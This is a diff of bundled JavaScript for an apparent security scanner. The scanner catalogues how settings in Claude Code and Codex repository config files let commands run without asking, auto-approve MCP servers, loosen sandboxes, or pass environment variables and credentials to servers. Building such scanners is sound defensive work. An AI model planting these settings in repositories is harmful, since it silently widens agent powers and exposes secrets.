+		})),
+		example: sandbox$2({ excludedCommands: ["docker *"] })
+	}),
+	...grants$1("settings", "credentials", "decides which credentials commands get", {
+		read: opaque(),
+		example: sandbox$2({ credentials: true })
+	}),
+	...filesystemRows,
+	...networkRows,
+	...grants$1("settings", "bwrapPath, socatPath, ripgrep", "replaces a program of the sandbox", {
+		read: opaque(),
+		example: { sandbox: { bwrapPath: "./bwrap" } }
+	}),
+	...grants$1("settings", "allowAppleEvents, allowNestedUserNamespaces", "limits less", {
+		read: on(),
+		example: sandbox$2({ allowAppleEvents: true })
+	}),
+	...grants$1("settings", "windows", "decides what the sandbox is made of", {
+		read: opaque(),
+		example: { sandbox: { windows: { backend: "mxc" } } }
+	}),
+	...harmless$1("ignoreViolations network.allowManagedDomainsOnly filesystem.allowManagedReadPathsOnly")
+]);
+// src/powers/settings/sharing.ts
+const sharingRows$1 = [
+	...grants$1("settings", "remoteControlAtStartup", "lets others control each session", {
+		read: on(),
+		example: { remoteControlAtStartup: true }
+	}),
+	...grants$1("settings", "autoUploadSessions", "uploads each session", {
+		read: on(),
+		example: { autoUploadSessions: true }
+	}),
+	...grants$1("settings", "crossSessionInbound", "`accept`: takes messages of other sessions", {
+		read: value(["accept"]),
+		example: { crossSessionInbound: "accept" }
+	}),
+	...grants$1("settings", "isolatePeerMachines", "false: messages reach other machines unasked", {
+		read: either$1(false),
+		example: { isolatePeerMachines: false }
+	}),
+	...grants$1("settings", "remote, remoteControl, remoteTools, xaaIdp", "shown as written", {
+		read: opaque(),
+		example: { remoteTools: { allowUnattendedServing: true } }
+	}),
+	...grants$1("settings", "sshConfigs", "offers the machines", {
+		read: opaque(),
+		example: { sshConfigs: [{
+			id: "a",
+			name: "a",
+			sshHost: "a.example"
+		}] }
+	}),
+	...grants$1("run", "sshHostCommands[].command", "runs the command to connect", {
+		read: command$3(),
+		example: { sshHostCommands: [{
+			name: "a",
+			command: "./host.sh"
+		}] }
+	}),
+	...harmless$1("sshHostCommands[].name sshHostCommands[].id sshHostCommands[].description"),
+	...grants$1("settings", "channelsEnabled", "lets servers send messages to the model", {
+		read: on(),
+		example: { channelsEnabled: true }
+	}),
+	...grants$1("settings", "allowedChannelPlugins", "the plugins that may send messages", {
+		read: opaque(),
+		example: { allowedChannelPlugins: [{
+			marketplace: "m",
+			plugin: "p"
+		}] }
+	})
+];
+const limitRows = [
+	...grants$1("guard", "allowedHttpHookUrls", "hooks send nothing elsewhere", {
+		read: only("hooks send requests to listed addresses only"),
+		example: { allowedHttpHookUrls: ["https://x.example/*"] }
+	}),
+	...grants$1("guard", "httpHookAllowedEnvVars", "hooks send no other variables", {
+		read: only("hooks send listed variables only"),
+		example: { httpHookAllowedEnvVars: ["TOKEN"] }
+	}),
+	...grants$1("guard", "allowedMcpServers", "starts no other servers", {
+		read: only("only listed servers start"),
+		example: { allowedMcpServers: [{ serverName: "docs" }] }
+	}),
+	...grants$1("guard", "deniedMcpServers", "does not start the servers", {
+		read: opaque({ kind: "guard" }),
+		example: { deniedMcpServers: [{ serverName: "docs" }] }
+	}),
+	...grants$1("guard", "disableClaudeAiConnectors, disableRemoteControl, disableWorkflows, disableBundledSkills, disableAgentView, disablePluginDirectory", "true: takes it away", {
+		read: off(true),
+		example: { disableRemoteControl: true }
+	}),
+	...grants$1("guard", "disableAutoMode", "takes the mode away", {
+		read: off("disable"),
+		example: { disableAutoMode: "disable" }
+	}),
+	...grants$1("settings", "skipWebFetchPreflight, useAutoModeDuringPlan, skipAutoPermissionPrompt, doneMeansMerged", "true: asks or checks less", {
+		read: on(),
+		example: { skipWebFetchPreflight: true }
+	}),
+	...within("worktree", grants$1("settings", "bgIsolation", "`none`: background sessions work in the repository itself", {
+		read: value(["none"]),
+		example: { worktree: { bgIsolation: "none" } }
+	})),
+	...grants$1("guard", "isolation.required", "true: works in isolation only", {
+		read: off(true),
+		example: { isolation: { required: true } }
+	}),
+	...harmless$1("isolation.persistHome"),
+	...grants$1("settings", "claudeMdExcludes", "leaves instructions out", {
+		read: opaque(),
+		example: { claudeMdExcludes: ["docs/CLAUDE.md"] }
+	})
+];
 // src/powers/settings/switches.ts
-const helperKeys = [
-	"apiKeyHelper",
-	"awsAuthRefresh",
-	"awsCredentialExport",
-	"gcpAuthRefresh",
-	"otelHeadersHelper"
+const servers = {
+	kind: "approve",
+	subject: "mcp servers",
+	remark: "servers of .mcp.json"
+};
+const commandRows = [...grants$1("run", "apiKeyHelper, awsAuthRefresh, awsCredentialExport, gcpAuthRefresh, otelHeadersHelper, proxyAuthHelper", "runs the command without asking", {
+	read: command$3(),
+	example: { apiKeyHelper: "./key.sh" }
+}), ...grants$1("run", "statusLine, subagentStatusLine, fileSuggestion", "runs the command again and again", {
+	read: command$3(),
+	example: { statusLine: {
+		type: "command",
+		command: "./status.sh"
+	} }
+})];
+const agentRow = grants$1("delegate", "agent", "the agent that works in the conversation", {
+	read: readAgent,
+	example: { agent: "deployer" }
+});
+const switchRows = [
+	...grants$1("approve", "enableAllProjectMcpServers", "starts servers of `.mcp.json` without asking", {
+		read: (field, place) => {
+			const { grants: found = [], ...rest } = on()(field, place);
+			const every = {
+				scope: "every server",
+				reach: "any",
+				...servers
+			};
+			return {
+				...rest,
+				grants: found.map((grant) => ({
+					...grant,
+					...every
+				}))
+			};
+		},
+		example: { enableAllProjectMcpServers: true }
+	}),
+	...grants$1("approve", "enabledMcpjsonServers", "starts servers of `.mcp.json` without asking", {
+		read: names$4(servers),
+		example: { enabledMcpjsonServers: ["docs"] }
+	}),
+	...grants$1("guard", "disabledMcpjsonServers", "limits them", {
+		read: names$4({ kind: "guard" }),
+		example: { disabledMcpjsonServers: ["docs"] }
+	}),
+	...grants$1("guard", "disableAllHooks, disableSkillShellExecution", "true: limits", {
+		read: either$1(false, { remark: "overrides the settings of the user" }),
+		example: { disableAllHooks: true }
+	}),
+	...grants$1("guard", "skillOverrides.<skill>", "limits who starts the skill", {
+		read: readVisibility,
+		example: { skillOverrides: { deploy: "off" } }
+	}),
+	...grants$1("settings", "outputStyle", "replaces parts of the instructions", {
+		read: opaque(),
+		example: { outputStyle: "Terse" }
+	})
 ];
-const commandKeys$1 = [
-	"statusLine",
-	"subagentStatusLine",
-	"fileSuggestion"
-];
-function readHelper(field) {
-	if (!field) return {};
-	const { key, value } = field;
-	const command = value.kind === "table" ? value.fields.get("command")?.value : value;
-	const line = text$1(command);
-	const base = {
-		kind: "run",
-		feature: "helper-command",
-		subject: key,
-		trigger: inRepository,
-		at: command?.at ?? value.at
-	};
-	if (line === void 0) {
-		const expected = {
-			expected: "a command",
-			consequence: "Claude Code does not use it"
-		};
-		return {
-			grants: [{
-				...base,
-				scope: key,
-				reach: "unknown"
-			}],
-			faults: [wrongType(key, value, expected)]
-		};
-	}
-	return { grants: [{
-		...base,
-		scope: line.trim(),
-		reach: "one",
-		pin: pinOf$1(line),
-		command: line
-	}] };
-}
-function readAgent(field) {
-	const name = text$1(field?.value);
-	if (!field || name === void 0) return {};
-	return { grants: [{
+function readAgent({ value }) {
+	const name = text$1(value);
+	if (name === void 0) return {};
+	const power = {
 		kind: "delegate",
 		feature: "delegation",
 		scope: name,
-		reach: "one",
+		reach: "one"
+	};
+	const remark = "for the whole conversation";
+	return { grants: [{
+		...power,
 		subject: "agent",
 		trigger: inRepository,
-		remark: "for the whole conversation",
-		at: field.value.at
+		remark,
+		at: value.at
 	}] };
-}
-function readServerApprovals(table) {
-	const all = table.get("enableAllProjectMcpServers");
-	const base = {
-		kind: "approve",
-		remark: "servers of .mcp.json"
-	};
-	const everything = flag$1(all?.value) === true && all ? [settingGrant("mcp servers", "every server", {
-		...base,
-		reach: "any",
-		at: all.value.at
-	})] : [];
-	return combine$1(onSwitch(all, "").faults ? { faults: onSwitch(all, "").faults ?? [] } : {}, { grants: everything }, listGrants(table.get("enabledMcpjsonServers"), "", ({ text: name, at }) => settingGrant("mcp servers", name, {
-		...base,
-		at
-	})), listGrants(table.get("disabledMcpjsonServers"), "", ({ text: name, at }) => settingGrant("disabledMcpjsonServers", name, {
-		kind: "guard",
-		at
-	})));
-}
-function readSwitches(table) {
-	return combine$1(...["disableAllHooks", "disableSkillShellExecution"].flatMap((key) => {
-		const off = onSwitch(table.get(key), "", "overrides the settings of the user", false);
-		return [offSwitch(table.get(key), "", true), { grants: off.grants ?? [] }];
-	}), readSkillOverrides(table.get("skillOverrides")));
 }
 const visibilities = [
 	"on",
@@ -15703,18 +16834,8 @@ const visibilities = [
 	"user-invocable-only",
 	"off"
 ];
-function readSkillOverrides(field) {
-	if (!field) return {};
-	const consequence = "Claude Code does not use it";
-	if (field.value.kind !== "table") return { faults: [wrongType("skillOverrides", field.value, {
-		expected: "a mapping",
-		consequence
-	})] };
-	return combine$1(...fields(field.value).map(readVisibility));
-}
-function readVisibility({ key, value }) {
+function readVisibility({ value }, { name }) {
 	const rank = visibilities.indexOf(text$1(value) ?? "");
-	const name = `skillOverrides.${key}`;
 	if (rank === -1) return { faults: [wrongType(name, value, {
 		expected: visibilities.join(", "),
 		consequence: "it limits nothing"
@@ -15727,122 +16848,39 @@ function readVisibility({ key, value }) {
 	})] };
 }
 // src/powers/carriers/claude-settings.ts
-const claudeSettings = {
+const ignoredRows$1 = harmless$1(`
+  additionalDirectoryConfigRoots allowAllClaudeAiMcps allowedMarketplaces allowedProviders
+  allowManagedHooksOnly allowManagedMcpServersOnly allowManagedPermissionRulesOnly appendPlugins
+  autoMode availableModelsMatch blockedMarketplaces claudeMd deniedModels disableCommandPluginSources
+  disableDirectMcpSkills disableSideloadFlags downloadsMirrorUrl forceLoginGatewayUrl
+  forceRemoteSettingsRefresh gatewayInternalNetworks managedMcpServers managedSourcesBehavior
+  modelCatalogPublicKey modelCatalogUrl parentSettingsBehavior pluginConfigs pluginSuggestionMarketplaces
+  pluginTrustMessage policyHelper policyHelpers prependPlugins processWrapper requiredMaximumVersion
+  requiredMinimumVersion skipDangerousModePermissionPrompt strictKnownMarketplaces
+  strictPluginOnlyCustomization syncClaudeAiPlugins syncClaudeAiSkills wslInheritsWindowsSettings
+`).map((row) => ({
+	...row,
+	read: ({ key, keyAt }) => ({ faults: [grantFault(msg`${code$1(key)} has no effect in the settings of a repository.`, keyAt)] })
+}));
+const claudeSettings = tableCarrier({
 	id: "claude-settings",
-	title: "`.claude/settings.json`, `.claude/settings.local.json`",
+	paths: [".claude/settings.json", ".claude/settings.local.json"],
 	client: "Claude Code",
-	extensions: ["json"],
-	fields: [
-		{
-			field: "permissions.allow",
-			kind: "approve",
-			description: "allows the tools without asking"
-		},
-		{
-			field: "permissions.deny, permissions.ask",
-			kind: "guard",
-			description: "limits the tools"
-		},
-		{
-			field: "permissions.defaultMode",
-			kind: "approve",
-			description: "`acceptEdits`, `bypassPermissions`: asks less; `plan`, `dontAsk`: limits"
-		},
-		{
-			field: "permissions.additionalDirectories",
-			kind: "write",
-			description: "reads and writes the folders"
-		},
-		{
-			field: "permissions.disableBypassPermissionsMode, permissions.disableAutoMode",
-			kind: "guard",
-			description: "takes the mode away"
-		},
-		{
-			field: "hooks",
-			kind: "run",
-			description: "as in `hooks/hooks.json`"
-		},
-		{
-			field: "disableAllHooks, disableSkillShellExecution",
-			kind: "guard",
-			description: "true: limits"
-		},
-		{
-			field: "env",
-			kind: "settings",
-			description: "sets variables for the client and its commands"
-		},
-		{
-			field: "apiKeyHelper, awsAuthRefresh, awsCredentialExport, gcpAuthRefresh, otelHeadersHelper",
-			kind: "run",
-			description: "runs the command without asking"
-		},
-		{
-			field: "statusLine.command, subagentStatusLine.command, fileSuggestion.command",
-			kind: "run",
-			description: "runs the command again and again"
-		},
-		{
-			field: "enabledPlugins",
-			kind: "settings",
-			description: "enables the plugin"
-		},
-		{
-			field: "extraKnownMarketplaces",
-			kind: "install",
-			description: "offers plugins of the source"
-		},
-		{
-			field: "enableAllProjectMcpServers, enabledMcpjsonServers",
-			kind: "approve",
-			description: "starts servers of `.mcp.json` without asking"
-		},
-		{
-			field: "disabledMcpjsonServers, skillOverrides",
-			kind: "guard",
-			description: "limits them"
-		},
-		{
-			field: "sandbox.enabled",
-			kind: "guard",
-			description: "limits what commands reach"
-		},
-		{
-			field: "sandbox.excludedCommands",
-			kind: "run",
-			description: "runs outside the sandbox"
-		},
-		{
-			field: "sandbox.filesystem.allowWrite",
-			kind: "write",
-			description: "writes the folders"
-		},
-		{
-			field: "sandbox.filesystem.allowRead",
-			kind: "read",
-			description: "reads the folders"
-		},
-		{
-			field: "sandbox.network.allowedDomains",
-			kind: "net",
-			description: "reaches the hosts"
-		},
-		{
-			field: "sandbox.*: denyRead, denyWrite, deniedDomains, allowUnsandboxedCommands",
-			kind: "guard",
-			description: "limits the sandbox further"
-		},
-		{
-			field: "agent",
-			kind: "delegate",
-			description: "the agent that works in the conversation"
-		},
-		{
-			field: "outputStyle",
-			kind: "settings",
-			description: "replaces parts of the instructions"
-		}
+	format: "json",
+	consequence: "Claude Code uses none of its settings, and none of its limits",
+	rows: [
+		...permissionRows$1,
+		...hookRows("as in `hooks/hooks.json`"),
+		...environmentRows$1,
+		...commandRows,
+		...pluginRows$1,
+		...switchRows,
+		...sandboxRows$1,
+		...agentRow,
+		...ignoredRows$1,
+		...sharingRows$1,
+		...limitRows,
+		...harmless$1(settingsForPeople)
 	],
 	unitOf(path) {
 		const folder = folderOf(path);
@@ -15852,25 +16890,14 @@ const claudeSettings = {
 			root: folderOf(folder)
 		};
 	},
-	read: read$2,
-	examples: settingsExamples
-};
-function read$2({ path, text, unit }) {
-	const { root, faults } = readJson(path, text, { consequence: "Claude Code uses none of its settings, and none of its limits" });
-	if (root?.kind !== "table") return combine$1({ faults });
-	const { fields } = root;
-	return combine$1({ faults: [...ignoredFaults(root), ...localFaults(path)] }, readPermissions(get(root, "permissions")), readHooks(get(root, "hooks"), { unit }), readEnvironment(fields.get("env")), ...[...helperKeys, ...commandKeys$1].map((key) => readHelper(fields.get(key))), readEnabledPlugins(fields.get("enabledPlugins")), readMarketplaces(fields.get("extraKnownMarketplaces")), readServerApprovals(fields), readSwitches(fields), readSandbox(fields.get("sandbox")), readAgent(fields.get("agent")), opaqueSetting(fields.get("outputStyle"), ""), { unread: unreadFields(root, settingsKeys) });
-}
-function ignoredFaults(root) {
-	return ignoredKeys.flatMap((key) => {
-		const field = root.fields.get(key);
-		const message = msg`${code$1(key)} has no effect in the settings of a repository.`;
-		return field ? [grantFault(message, field.keyAt)] : [];
-	});
-}
-function localFaults(path) {
-	if (nameOf$3(path) !== "settings.local.json") return [];
-	return [grantFault(msg`${pathPart(nameOf$3(path))} is committed: the settings of one person apply to all.`, { path }, msg`Remove the file, and add it to ${code$1(".gitignore")}.`)];
+	readWhole: (_, { path }) => localFault(path),
+	sample: { path: ".claude/settings.json" }
+});
+function localFault(path) {
+	if (nameOf$3(path) !== "settings.local.json") return {};
+	const message = msg`${pathPart(nameOf$3(path))} is committed: the settings of one person apply to all.`;
+	const help = msg`Remove the file, and add it to ${code$1(".gitignore")}.`;
+	return { faults: [grantFault(message, { path }, help)] };
 }
 // src/powers/examples/plugin.ts
 function plugin$2(files) {
@@ -15881,7 +16908,7 @@ function plugin$2(files) {
 	};
 }
 // src/powers/plugins/plugin-root.ts
-function pluginWith(folder, path, tree) {
+function pluginWith$1(folder, path, tree) {
 	const parent = folderOf(path);
 	if (folder !== "" && parent !== folder && !parent.endsWith(`/${folder}`)) return null;
 	const root = folder === "" ? parent : folderOf(parent);
@@ -15890,16 +16917,14 @@ function pluginWith(folder, path, tree) {
 		root
 	} : null;
 }
+// src/powers/carriers/claude-workflows.ts
+const example$10 = exampleWriter(plugin$2);
 const claudeWorkflows = {
 	id: "claude-workflows",
-	title: "`workflows/*.js` of a plugin, `.claude/workflows/*.js`",
+	paths: [".claude/workflows/*.{js,cjs,mjs,ts,cts,mts}", "<plugin>/workflows/*.{js,cjs,mjs,ts,cts,mts}"],
 	client: "Claude Code",
 	ignoresText: true,
-	fields: [{
-		field: "(the file)",
-		kind: "delegate",
-		description: "starts agents, as its script says"
-	}],
+	rows: [...grants$1("delegate", "(the file)", "starts agents, as its script says")],
 	unitOf: (path, tree) => /\.[cm]?[jt]s$/.test(path) ? unitWith(path, tree) : null,
 	read({ path, unit }) {
 		const scope = relativePath$1(unit.root, path);
@@ -15910,12 +16935,12 @@ const claudeWorkflows = {
 			reach: "one",
 			subject: scope,
 			trigger: { start: "model" },
-			programs: [path],
+			command: ["node", scope],
 			remark: "a script that starts agents",
 			at: { path }
 		}] });
 	},
-	examples: [exampleWriter(plugin$2)("delegate", "workflows/audit.js", [{ "workflows/audit.js": "export const meta = { name: \"audit\" };\n" }, {}]), exampleOf$1("delegate", ".claude/workflows/audit.js", [{ ".claude/workflows/audit.js": "export const meta = { name: \"audit\" };\n" }, {}])]
+	examples: [example$10("delegate", "workflows/audit.js", [{ "workflows/audit.js": "export const meta = { name: \"audit\" };\n" }, {}]), exampleOf$1("delegate", ".claude/workflows/audit.js", [{ ".claude/workflows/audit.js": "export const meta = { name: \"audit\" };\n" }, {}])]
 };
 function unitWith(path, tree) {
 	const folder = folderOf(path);
@@ -15924,37 +16949,448 @@ function unitWith(path, tree) {
 		kind: "repository",
 		root: folderOf(parent)
 	};
-	return pluginWith("workflows", path, tree);
+	return pluginWith$1("workflows", path, tree);
 }
-// src/powers/carriers/codex-apps.ts
-const known$11 = new Set(["apps", "$schema"]);
-const codexApps = {
-	id: "codex-apps",
-	title: "`.app.json` of a plugin",
-	client: "Codex",
-	extensions: ["json"],
-	fields: [{
-		field: "apps.<name>.id",
-		kind: "mcp",
-		description: "connects the tools of the hosted connector"
-	}],
-	unitOf(path) {
-		return nameOf$3(path) === ".app.json" ? {
-			kind: "plugin",
-			root: folderOf(path)
-		} : null;
-	},
-	read({ path, text: written }) {
-		const { root, faults } = readJson(path, written, { consequence: "Codex connects none of it" });
-		if (!root) return combine$1({ faults });
-		return combine$1({ unread: unreadFields(root, known$11) }, ...fields(get(root, "apps")).map((field) => readApp(field)));
-	},
-	examples: [exampleOf$1("mcp", "connector_1234", [
-		{ "p/.app.json": "{\"apps\": {\"mail\": {\"id\": \"connector_1234\"}}}\n" },
-		{ "p/.app.json": "{\"apps\": {}}\n" },
-		{ "p/.app.json": "{\n  \"apps\": {\"mail\": {\"id\": \"connector_1234\"}}\n}\n" }
-	])]
+// src/powers/servers/variable-names.ts
+const variableNames = ({ value }, { keys }) => ({ grants: items(value).map((item) => {
+	const variable = text$1(item) ?? text$1(get(item, "name"));
+	return {
+		kind: "secret",
+		feature: "secret",
+		subject: `server ${keys[0] ?? ""}`,
+		scope: `\${${variable ?? ""}} to the server`,
+		variable,
+		reach: variable === void 0 ? "unknown" : "one",
+		trigger: whileEnabled,
+		at: item.at
+	};
+}) });
+// src/powers/clients/codex-approvals.ts
+const approvalMode = ({ value }, { keys: [owner = "", tool = "*"] }) => {
+	const written = text$1(value);
+	if (written === "auto") return {};
+	const isKnown = written === "approve" || written === "prompt";
+	const base = {
+		subject: `tools of ${owner}`,
+		trigger: whileEnabled,
+		at: value.at
+	};
+	const scope = written === "prompt" ? `prompt: ${owner} / ${tool}` : `${owner} / ${tool}`;
+	return { grants: [{
+		...base,
+		kind: written === "prompt" ? "guard" : "approve",
+		feature: "permission-rule",
+		reach: isKnown ? "one" : "unknown",
+		scope
+	}] };
 };
+function approvalRows$2(owner, key) {
+	const fields = [`${owner}.${key}`, `${owner}.tools.<tool>.approval_mode`];
+	const name = owner.replace(/\.<.*$/, "");
+	const server = name === "apps" ? { enabled: true } : { command: "docs-mcp" };
+	return fields.flatMap((field) => {
+		const limit = (mode) => field.endsWith(key) ? { [key]: mode } : { tools: { search: { approval_mode: mode } } };
+		const example = (mode) => ({ [name]: { docs: {
+			...server,
+			...limit(mode)
+		} } });
+		return grants$1("approve", field, "`approve`: calls the tools without asking; `prompt`: limits", {
+			read: approvalMode,
+			example: example("approve")
+		});
+	});
+}
+const codexServerRows = [...approvalRows$2("mcp_servers.<name>", "default_tools_approval_mode"), ...within("mcp_servers.<name>", [
+	...grants$1("secret", "env_vars", "passes on variables of the environment", {
+		read: variableNames,
+		example: { mcp_servers: { docs: {
+			command: "docs-mcp",
+			env_vars: ["DOCS_KEY"]
+		} } }
+	}),
+	...grants$1("run", "http_headers_helper", "runs the command to get headers", {
+		read: command$3(),
+		example: { mcp_servers: { docs: {
+			url: "https://d.example",
+			http_headers_helper: "./h"
+		} } }
+	}),
+	...grants$1("settings", "environment_id, auth, omit_tools_from", "decides what the server is", {
+		read: opaque(),
+		example: { mcp_servers: { docs: {
+			command: "docs-mcp",
+			environment_id: "remote"
+		} } }
+	}),
+	...harmless$1(`
+      bearer_token oauth_resource tool_input_schema_max_bytes tools.<tool>.output_token_limit
+    `)
+])];
+const codexAppRows = [...approvalRows$2("apps.<name>", "default_tools_approval_mode"), ...within("apps.<name>", [...grants$1("settings", `enabled, approvals_reviewer, destructive_enabled, open_world_enabled, default_tools_enabled, omit_tools_from, links`, "decides what the connector may do", {
+	read: opaque(),
+	example: { apps: { mail: { destructive_enabled: true } } }
+}), ...grants$1("settings", "tools.<tool>.enabled", "decides which tools it offers", {
+	read: opaque(),
+	example: { apps: { mail: { tools: { send: { enabled: true } } } } }
+})])];
+// src/powers/clients/codex-hooks.ts
+function codexHookRows(description) {
+	return [
+		...hookRows(description, { dialect: codexDialect }),
+		...grants$1("approve", "hooks.state.<id>.trusted_hash", "trusts the hook", {
+			read: opaque({
+				kind: "approve",
+				feature: "permission-rule"
+			}),
+			example: { hooks: { state: { own: { trusted_hash: "sha256:00" } } } }
+		}),
+		...grants$1("approve", "hooks.state.<id>.trusted_content_hash", "trusts the script", {
+			read: opaque({
+				kind: "approve",
+				feature: "permission-rule"
+			}),
+			example: { hooks: { state: { own: { trusted_content_hash: "sha256:00" } } } }
+		}),
+		...harmless$1("hooks.state.<id>.enabled")
+	];
+}
+// src/powers/clients/codex-profiles.ts
+const profile = (fields) => ({ permissions: { wide: fields } });
+const folderAccess = (field, { name, keys: [, ...path] }) => {
+	const access = text$1(field.value);
+	const at = field.value.at;
+	if (field.value.kind === "table") return {};
+	const folder = path.join("/");
+	if (access === "read" || access === "write") return { grants: [folderGrant({
+		text: folder,
+		at
+	}, {
+		kind: access,
+		feature: "setting",
+		subject: name,
+		trigger: inRepository
+	})] };
+	const kind = access === "none" || access === "deny" ? "guard" : "settings";
+	return { grants: [settingGrant(name, `${folder}: ${access ?? ""}`, {
+		kind,
+		at
+	})] };
+};
+function allowed$1(kind) {
+	return ({ key, value }, { name }) => {
+		const access = text$1(value);
+		if (access === "allow") return { grants: [settingGrant(name, key, {
+			kind,
+			at: value.at
+		})] };
+		return { grants: [settingGrant(name, `${key}: ${access ?? ""}`, {
+			kind: "guard",
+			at: value.at
+		})] };
+	};
+}
+const files = grants$1("write", "filesystem.<folder>, filesystem.<folder>.<path>", "writes the folder; `read`: reads it; `none`: limits", {
+	read: folderAccess,
+	example: profile({ filesystem: { "/srv/data": "write" } })
+});
+const network = within("network", [
+	...grants$1("net", "enabled", "commands reach the network", {
+		read: everyHost,
+		example: profile({ network: { enabled: true } })
+	}),
+	...grants$1("net", "domains.<host>", "`allow`: commands reach the host; `deny`: limits", {
+		read: allowed$1("net"),
+		example: profile({ network: { domains: { "x.example": "allow" } } })
+	}),
+	...grants$1("settings", "unix_sockets.<path>", "`allow`: commands reach the socket", {
+		read: allowed$1("settings"),
+		example: profile({ network: { unix_sockets: { "/run/docker.sock": "allow" } } })
+	}),
+	...grants$1("settings", `dangerously_allow_non_loopback_proxy, dangerously_allow_all_unix_sockets, allow_upstream_proxy, allow_local_binding`, "true: weakens the limits of the network", {
+		read: on(),
+		example: profile({ network: { allow_local_binding: true } })
+	}),
+	...grants$1("settings", "proxy_url, socks_url, mode, mitm", "decides how commands reach it", {
+		read: opaque(),
+		example: profile({ network: { proxy_url: "http://127.0.0.1:3128" } })
+	}),
+	...harmless$1("enable_socks5 enable_socks5_udp transparent_tcp")
+]);
+const profileRows = [...grants$1("settings", "default_permissions", "chooses what commands reach", {
+	read: opaque(),
+	example: { default_permissions: "wide" }
+}), ...within("permissions.<profile>", [
+	...files,
+	...network,
+	...grants$1("settings", "extends, workspace_roots", "widens the profile by another, or by roots", {
+		read: opaque(),
+		example: profile({ extends: ":workspace" })
+	}),
+	...harmless$1("description")
+])];
+const environmentRows = within("shell_environment_policy", [
+	...grants$1("settings", "inherit, filters", "decides which variables commands get", {
+		read: opaque(),
+		example: { shell_environment_policy: { inherit: "all" } }
+	}),
+	...grants$1("settings", "ignore_default_excludes, experimental_use_profile", "true: commands get variables that may be secrets", {
+		read: on(),
+		example: { shell_environment_policy: { ignore_default_excludes: true } }
+	}),
+	...grants$1("settings", "set.<name>", "sets the variable for every command", {
+		read: opaque(),
+		example: { shell_environment_policy: { set: { PATH: "./bin" } } }
+	}),
+	...grants$1("guard", "exclude", "keeps the variables from commands", {
+		read: names$4({ kind: "guard" }),
+		example: { shell_environment_policy: { exclude: ["AWS_*"] } }
+	}),
+	...grants$1("guard", "include_only", "commands get no other variables", {
+		read: only("only listed variables"),
+		example: { shell_environment_policy: { include_only: ["PATH"] } }
+	})
+]);
+const workspaceRows = within("sandbox_workspace_write", [
+	...grants$1("write", "writable_roots", "writes the folders", {
+		read: folders$1("write"),
+		example: { sandbox_workspace_write: { writable_roots: ["/srv/data"] } }
+	}),
+	...grants$1("net", "network_access", "commands reach the network", {
+		read: everyHost,
+		example: { sandbox_workspace_write: { network_access: true } }
+	}),
+	...harmless$1("exclude_tmpdir_env_var exclude_slash_tmp")
+]);
+// src/powers/clients/codex-settings.ts
+const modeRows = [...grants$1("approve", "approval_policy", "`on-failure`, `never`: asks less; `untrusted`: limits", {
+	read: unlessTable(mode$1({
+		raising: ["on-failure", "never"],
+		limiting: ["untrusted"],
+		neutral: ["on-request"]
+	})),
+	example: { approval_policy: "never" }
+}), ...grants$1("approve", "sandbox_mode", "`workspace-write`, `danger-full-access`: commands reach more; `read-only`: limits", {
+	read: mode$1({
+		raising: ["workspace-write", "danger-full-access"],
+		limiting: ["read-only"],
+		neutral: []
+	}),
+	example: { sandbox_mode: "danger-full-access" }
+})];
+const requests = "requests to the model go there";
+const providerRows$1 = [
+	...grants$1("net", `openai_base_url, chatgpt_base_url, experimental_realtime_ws_base_url, experimental_realtime_webrtc_call_base_url, experimental_thread_store_endpoint`, requests, {
+		read: address(requests),
+		example: { openai_base_url: "https://models.example/v1" }
+	}),
+	...grants$1("net", "model_providers.<id>", requests, {
+		read: readProvider,
+		example: { model_providers: { own: { base_url: "https://models.example/v1" } } }
+	}),
+	...grants$1("secret", "model_providers.<id>.env_key", "sends the variable to the server", { example: { model_providers: { own: {
+		base_url: "https://models.example",
+		env_key: "KEY"
+	} } } }),
+	...within("model_providers.<id>", [
+		...grants$1("secret", "env_http_headers.<header>", "sends the variable to the server", {
+			read: readHeader,
+			example: { model_providers: { own: {
+				base_url: "https://m.example",
+				env_http_headers: { K: "KEY" }
+			} } }
+		}),
+		...grants$1("settings", "auth, gateway_oauth, aws, credential_file, model_catalog_url", "decides how requests are signed", {
+			read: opaque(),
+			example: { model_providers: { own: { auth: { command: "./key.sh" } } } }
+		}),
+		...harmless$1(`
+      name base_url wire_api query_params request_max_retries stream_max_retries
+      stream_idle_timeout_ms env_key_instructions requires_openai_auth experimental_bearer_token
+      project_id location capabilities http_headers websocket_connect_timeout_ms
+      supports_websockets supports_standalone_web_search
+    `)
+	])
+];
+const marketplaces = "decides where plugins come from";
+const pluginRows = [...within("plugins.<id>", [...grants$1("settings", "enabled, auto_provision, remote_plugin_id, release_id, mcp_servers, apps", "decides whether the plugin is used, and how", {
+	read: opaque(),
+	example: { plugins: { "docs@acme": { enabled: true } } }
+})]), ...within("marketplaces.<name>", [...grants$1("settings", "source, source_type, ref, sparse_paths, auto_update", marketplaces, {
+	read: opaque(),
+	example: { marketplaces: { acme: { source: "acme/plugins" } } }
+}), ...harmless$1("last_updated last_revision")])];
+const featureRows = [
+	...grants$1("settings", "features.<name>, tools.<name>", "switches a tool or a feature", {
+		read: opaque(),
+		example: { features: { web_search_request: true } }
+	}),
+	...grants$1("settings", `web_search, profile, profiles, model_provider, allow_login_shell, approvals_reviewer, skills.config, experimental_use_unified_exec_tool, allow_symlinked_codex_home, auto_review, browser_use, computer_use, js_repl_node_module_dirs, cli_auth_credentials_store, mcp_oauth_credentials_store, mcp_oauth_callback_url, mcp_enterprise_managed_auth, windows, orchestrator, cloud, code_mode, rollout_trace, sqlite_home, log_dir, experimental_thread_store, apps_mcp_product_sku`, "shown as written", {
+		read: opaque(),
+		example: { web_search: "live" }
+	}),
+	...grants$1("settings", "agents.<role>.config_file", "the role has the settings of the file", {
+		read: opaque(),
+		example: { agents: { reviewer: { config_file: "./reviewer.toml" } } }
+	}),
+	...harmless$1(`
+    agents.max_threads agents.max_depth agents.job_max_runtime_seconds agents.<role>.description
+    agents.<role>.nickname_candidates skills.bundled skills.include_instructions
+    skills.max_context_tokens
+  `)
+];
+const exporters = [
+	"exporter",
+	"trace_exporter",
+	"metrics_exporter"
+].map((name) => `otel.${name}.<kind>`);
+const endpoints = exporters.map((exporter) => `${exporter}.endpoint`).join(", ");
+const harmlessRows = harmless$1(`
+  approval_policy.granular.sandbox_approval approval_policy.granular.rules
+  approval_policy.granular.skill_approval approval_policy.granular.request_permissions
+  approval_policy.granular.mcp_elicitations
+  model model_reasoning_effort model_reasoning_summary model_verbosity tui model_context_window
+  model_auto_compact_token_limit model_auto_compact_token_limit_scope
+  model_post_turn_compact_threshold_percent personality file_opener history hide_agent_reasoning
+  show_raw_agent_reasoning project_doc_max_bytes project_doc_fallback_filenames review_model
